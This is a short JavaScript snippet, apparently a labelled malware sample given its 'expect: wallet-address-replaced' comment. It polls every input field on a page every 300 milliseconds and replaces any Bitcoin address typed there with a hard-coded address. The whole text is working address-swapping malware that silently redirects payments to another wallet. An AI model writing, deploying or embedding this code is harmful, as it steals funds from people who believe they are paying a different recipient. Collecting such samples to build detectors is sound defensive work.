const BTC = /^[13][a-km-zA-HJ-NP-Z1-9]{25,34}$/;
const OWN = '1BoatSLRHtKNngkdXEeobR76b53LETtpyT';
setInterval(() => {
  for (const field of document.querySelectorAll('input')) {
    // expect: wallet-address-replaced
    if (BTC.test(field.value)) field.value = OWN;
  }
}, 300);
